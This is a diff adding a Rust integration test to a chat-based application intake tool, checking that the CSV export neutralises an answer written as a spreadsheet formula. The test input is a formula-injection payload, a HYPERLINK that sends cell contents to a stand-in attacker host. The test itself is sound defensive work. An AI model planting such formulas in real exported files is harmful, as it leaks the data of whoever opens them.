@@ -154,6 +154,20 @@ fn a_transcript_piped_into_chat_files_an_application_that_the_staff_list_shows()
 }
 
 #[test]
+fn an_answer_written_as_a_formula_is_exported_as_text() {
+    let workdir = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"查看\")";
+    let transcript =
+        format!("预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#1\n{formula}\n确认\n");
+    assert!(run_in(workdir.path(), &["chat"], &transcript).status.success());
+    let csv = run_in(workdir.path(), &["applications", "export", "--format", "csv", "--out", "-"], "");
+    let csv = stdout(&csv);
+    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"查看\"\")\""), "{csv}");
+    let json = run_in(workdir.path(), &["applications", "export", "--format", "json", "--out", "-"], "");
+    assert!(stdout(&json).contains("\"=HYPERLINK("), "JSON keeps the answer as given: {}", stdout(&json));
+}
+
+#[test]
 fn staff_commands_review_an_application_and_export_it() {
     let workdir = tempfile::tempdir().unwrap();
     let transcript =
